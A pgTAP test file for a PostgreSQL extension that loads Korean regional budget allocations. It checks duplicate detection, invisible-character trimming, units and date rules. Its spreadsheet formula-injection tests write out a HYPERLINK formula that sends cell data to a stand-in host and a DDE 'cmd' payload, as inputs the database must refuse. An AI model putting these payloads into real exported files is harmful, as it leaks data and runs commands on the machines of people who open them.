-- Every won placed once, round 3: the paths a user walks on the first day
-- (doc/regionpolicy.md, "Loading" and "Access control").  Each test here
-- failed on the version before.
BEGIN;
CREATE EXTENSION IF NOT EXISTS pgtap;
CREATE EXTENSION regionpolicy CASCADE;
SET LOCAL search_path = regionpolicy, public;
SET LOCAL client_min_messages = warning;
SELECT plan(37);

INSERT INTO program (id, ministry, fiscal_year, name_ko) VALUES (5100, 'MSS', 2024, '시험사업'), (5101, 'MSS', 2025, '시험사업');

-- A line's 시·군·구 is part of its identity: one 세부사업 number, three 시.
INSERT INTO allocation_entry (program, province, municipality, fiscal_year, amount, reference) VALUES
	('시험사업', '경남', '창원시', 2024, '(1억,0)', 'NB-1'), ('시험사업', '경남', '진주시', 2024, '(2억,0)', 'NB-1'),
	('시험사업', '경남', '통영시', 2024, '(3억,0)', 'NB-1');
SELECT is((SELECT sum(amount) FROM allocation WHERE program_id = 5100), '(6억,0)'::funding,
		  'three lines of one reference in three 시·군·구 are three lines (6억, not 1억)');
SELECT is((SELECT allocation_load_summary()::text), '(3,0)', '… 3 inserted, 0 replaced');
INSERT INTO allocation_entry (program, province, municipality, fiscal_year, amount, reference) VALUES
	('시험사업', '경남', '진주시', 2024, '(5억,0)', 'NB-1');
SELECT is((SELECT sum(amount) FROM allocation WHERE program_id = 5100), '(9억,0)'::funding,
		  'loading one of them again replaces only that 시·군·구''s line');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, municipality, fiscal_year, amount, reference) VALUES
	('시험사업', '경남', '거제시', 2024, '(1억,0)', 'NB-2'), ('시험사업', '경남', '거제시', 2024, '(2억,0)', 'NB-2')$$,
	'23505', 'lines 1 and 2 of the load are the same line (row 2: program ''시험사업'', province ''경남'', fiscal year 2024, reference ''NB-2'')',
	'the same referenced line twice in one statement is refused naming both rows, not replaced by its twin');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount) VALUES
	('시험사업', '부산', 2024, '(1억,0)'), ('시험사업', '부산', 2024, '(1억,0)')$$,
	'23505', 'lines 1 and 2 of the load are the same line (row 2: program ''시험사업'', province ''부산'', fiscal year 2024, reference NULL)',
	'… and an unreferenced one, as load_allocations refuses it');

-- References that differ only by characters nobody sees are one reference.
SELECT is(ARRAY[reference_trim(E'NB-1\u00A0'), reference_trim(E'\uFEFFNB-1'), reference_trim(E'NB-1\u200B'),
				reference_trim(E'\u3000NB-1\t'), reference_trim(E'NB\u00A0 -1'), reference_trim(E'\u200B')],
		  ARRAY['NB-1', 'NB-1', 'NB-1', 'NB-1', 'NB -1', NULL], 'no-break spaces, byte-order marks, zero-width spaces trimmed; white space inside made one space');
SELECT is(reference_trim(U&'\1100\1161-1'), U&'\AC00-1', 'references are compared in NFC (가 from its jamo)');
SELECT is(ARRAY[reference_trim(E' \t1031-301\r\n'), reference_trim(E'RS\x0b\f 2024  -001'), reference_trim(E' \t\n'),
				reference_trim(''), reference_trim(E'a\x01 b')],
		  ARRAY['1031-301', 'RS 2024 -001', NULL, NULL, E'a\x01 b'], 'references of ASCII: white space trimmed and made one space, other characters kept');
-- reference_trim reads a reference of ASCII itself and hands any other to
-- reference_trim_full, the definition in SQL: the two agree on 20,000
-- texts drawn from ASCII letters, digits, punctuation and every white
-- space, and the characters the definition removes or changes
SELECT setseed(0.32);
SELECT is((SELECT count(*) FROM (
			SELECT (SELECT string_agg((ARRAY[' ', E'\t', E'\n', E'\x0b', E'\f', E'\r', 'a', 'Z', '0', '9', '-', '_', '/', '.', '(', ')',
										   '#', '~', E'\x01', E'\x7f'])[1 + floor(random() * 20)::int], '')
					FROM generate_series(0, (g % 9)) AS k WHERE g >= 0) AS x
			FROM generate_series(1, 10000) AS g) r
		   WHERE reference_trim(x) IS DISTINCT FROM reference_trim_full(x)), 0::bigint,
		  'reference_trim agrees with its definition on 10,000 texts of ASCII');
SELECT is((SELECT count(*) FROM (
			SELECT (SELECT string_agg((ARRAY[' ', E'\t', E'\n', 'a', '7', '-', U&'\00A0', U&'\3000', U&'\200B', U&'\FEFF', U&'\00AD',
										   U&'\0085', U&'\2028', '가', U&'\1100', U&'\1161', 'é', U&'\0065\0301'])[1 + floor(random() * 18)::int], '')
					FROM generate_series(0, (g % 9)) AS k WHERE g >= 0) AS x
			FROM generate_series(1, 10000) AS g) r
		   WHERE reference_trim(x) IS DISTINCT FROM reference_trim_full(x)), 0::bigint,
		  '… and on 10,000 texts with white space, format characters and letters outside ASCII');
INSERT INTO allocation_entry (program, province, fiscal_year, amount, reference) VALUES ('시험사업', '울산', 2024, '(1억,0)', 'R-1');
INSERT INTO allocation_entry (program, province, fiscal_year, amount, reference) VALUES ('시험사업', '울산', 2024, '(1억,0)', E'R-1\u00A0');
INSERT INTO allocation_entry (program, province, fiscal_year, amount, reference) VALUES ('시험사업', '울산', 2024, '(1억,0)', E'\uFEFFR-1');
SELECT is((SELECT count(*) FROM allocation WHERE province_code = '31' AND program_id = 5100), 1::bigint,
		  'R-1, R-1 with a no-break space and R-1 behind a byte-order mark are one line (3억 would be 1억 three times)');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation (program_id, province_code, fiscal_year, amount, reference) VALUES (5100, '31', 2024, '(1,0)', E'R-2\u200B')$$,
	'23514', NULL, 'a reference with an invisible character straight into allocation is refused');

-- Numbers need their unit in a load.
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, "national", local) VALUES ('시험사업', '대구', 2024, '7,979,230', '0')$$,
	'22023', NULL, 'national and local numbers without a unit are refused, not read as won');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount) VALUES ('시험사업', '대구', 2024, '7,979,230')$$,
	'22023', NULL, '… and so is a bare number as the amount');
CREATE TEMP TABLE lines (LIKE allocation_entry);
INSERT INTO lines (program, province, fiscal_year, "national", local, reference) VALUES
	('시험사업', '광주', 2024, '7,979,230', '100', 'L1'), ('시험사업', '광주', 2024, '1,000', '0', 'L2');
SELECT throws_ok($$SELECT * FROM regionpolicy.load_allocations('lines')$$, '22023', NULL,
	'load_allocations of bare numbers with no unit is refused');
SELECT is((SELECT inserted FROM load_allocations('lines', unit => '천원')), 2::bigint, '… and loads them in the unit it is told');
SELECT is((SELECT sum(amount) FROM allocation WHERE province_code = '29' AND program_id = 5100), funding(7980230000, 100000),
		  '… in 천원: 7,979,230천원 is 7,979,230,000원');
SELECT is((SELECT allocation_load_summary()::text), '(2,0)', 'allocation_load_summary() tells of load_allocations too');

-- Every load error names the line of the source.
CREATE TEMP TABLE numbered (LIKE allocation_entry, line integer);
INSERT INTO numbered (line, program, province, fiscal_year, amount) VALUES (10, '시험사업', '대전', 2024, '국비 1억원'), (11, '시험사업', '대전', 2024, '국비 열억원');
SELECT throws_like($$SELECT * FROM regionpolicy.load_allocations('numbered')$$, '%(line 11:%',
	'an amount refused names the line as the source numbered it (its line column)');

-- A load that would write nothing refuses.
SET LOCAL session_replication_role = replica;
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount) VALUES ('시험사업', '대구', 2024, '1억원')$$,
	'55000', NULL, 'allocation_entry under session_replication_role = replica refuses instead of writing nothing');
SELECT throws_ok($$INSERT INTO regionpolicy.award_entry (program, reference, recipient, business_number, province, first_year, years, grant_amount)
	VALUES ('시험사업', 'K-1', '주식회사', '220-81-62517', '경남', 2024, 1, '국비 1억원')$$,
	'55000', NULL, '… and so does award_entry');
SET LOCAL session_replication_role = origin;

-- Dates and codes.
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, as_of) VALUES ('시험사업', '대구', 2024, '1억원', '2030-01-01')$$,
	'22023', NULL, 'a line''s date outside its fiscal year is refused');
SELECT throws_ok($$SELECT regionpolicy.municipality_code('27720', '2023-03-01')$$, '22023', NULL,
	'군위 27720 before 2023-07-01: a clear refusal (was 22004, a null RAISE option)');
SELECT throws_like($$SELECT regionpolicy.municipality_code('27720', '2023-03-01')$$, '%27720%',
	'… naming the code');

-- Long values: refused before anything looks them up.
SELECT throws_ok(format($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount) VALUES ('시험사업', %L, 2024, '1억원')$$, repeat('가', 100000)),
	'22001', NULL, 'a 100,000-character province is refused (22001)');

-- Units are read the same everywhere.
SELECT is(ARRAY[unit_won('원'), unit_won('won'), unit_won('WON'), unit_won('EOK'), unit_won('천원')],
		  ARRAY[1, 1, 1, 100000000, 1000]::bigint[], 'unit_won reads 원 and won, in any case, as round() does');
SELECT is(round('(123456789,0)'::funding, 'EOK'), round('(123456789,0)'::funding, '억'), 'round(f, ''EOK'') is round(f, ''억'')');

-- Cells a spreadsheet would run as a formula are refused where they are
-- written, so that allocation_report and its CSV carry none.
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference)
	VALUES ('시험사업', '대구', 2024, '1억원', '=HYPERLINK("http://x/?"&A2,"NB-1")')$$,
	'23514', NULL, 'a reference beginning with = is refused through allocation_entry');
SELECT throws_like($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, note)
	VALUES ('시험사업', '대구', 2024, '1억원', '@SUM(A1:A9)')$$,
	'note ''@SUM(A1:A9)'' begins with ''@'', which a spreadsheet takes for a formula (row 1: %',
	'… and a note beginning with @, naming the row');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation (program_id, province_code, fiscal_year, amount, reference) VALUES (5100, '27', 2024, '(1,0)', '+1')$$,
	'23514', NULL, 'a reference beginning with + is refused by the table itself');
SELECT throws_ok($$INSERT INTO regionpolicy.allocation (program_id, province_code, fiscal_year, amount, note) VALUES (5100, '27', 2024, '(1,0)', E'\t=1')$$,
	'23514', NULL, '… and a note beginning with a tab');
CREATE TEMP TABLE formula_lines (line integer, LIKE allocation_entry);
INSERT INTO formula_lines (line, program, province, fiscal_year, amount, reference) VALUES
	(10, '시험사업', '대구', 2024, '1억원', 'F-1'), (20, '시험사업', '대구', 2024, '2억원', '-2');
SELECT throws_ok($$SELECT regionpolicy.load_allocations('formula_lines')$$, '23514',
	'reference ''-2'' begins with ''-'', which a spreadsheet takes for a formula (line 20)',
	'load_allocations refuses it, naming the line of the source');
SELECT throws_ok($$INSERT INTO regionpolicy.award_entry (program, reference, recipient, business_number, province, first_year, years, grant_amount)
	VALUES ('시험사업', 'K-9', '=cmd|'' /C calc''!A0', '220-81-62517', '경남', 2024, 1, '국비 1억원')$$,
	'23514', NULL, 'an award''s recipient beginning with = is refused');
SELECT lives_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference, note)
	VALUES ('시험사업', '대구', 2024, '(1억,0)', 'NB=1', '· 추경 반영 (-3억)')$$,
	'the same characters inside a value are plain text');

-- The type's own refusals name the row of the statement too.
SELECT throws_ok($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, amount, reference) VALUES
	('시험사업', '대구', 2024, '(1억,0)', 'R-1'), ('시험사업', '대구', 2024, '국비 5억이', 'R-2')$$, '22P02',
	'invalid input syntax for type funding: "국비 5억이" (row 2: program ''시험사업'', province ''대구'', fiscal year 2024, reference ''R-2'')',
	'an amount the type refuses names its row');
SELECT throws_like($$INSERT INTO regionpolicy.allocation_entry (program, province, fiscal_year, "national", local, unit, reference) VALUES
	('시험사업', '대구', 2024, '1,000', '7.979.230', '천원', 'R-3')$$,
	'invalid local number: "7.979.230" (row 1: %', '… and so do numbers in a unit');
-- Ending a 시·군·구 that a line still uses names the line.
INSERT INTO municipality (code, province_code, name_ko, kind, source) VALUES ('48991', '48', '시험시', '시', 'test');
INSERT INTO allocation (program_id, province_code, municipality_code, fiscal_year, amount, reference)
VALUES (5101, '48', '48991', 2025, '(1억,0)', 'END-1');
SELECT throws_ok($$UPDATE regionpolicy.municipality SET valid_to = '2025-01-01' WHERE code = '48991'$$, '23503',
	format('시·군·구 48991 would no longer exist in fiscal year 2025, where allocation %s lies',
		   (SELECT id FROM allocation WHERE reference = 'END-1')),
	'ending a 시·군·구 that a line of a later year uses is refused, naming the line');

-- Award years lie in the award's term.
SELECT * FROM finish();
ROLLBACK;
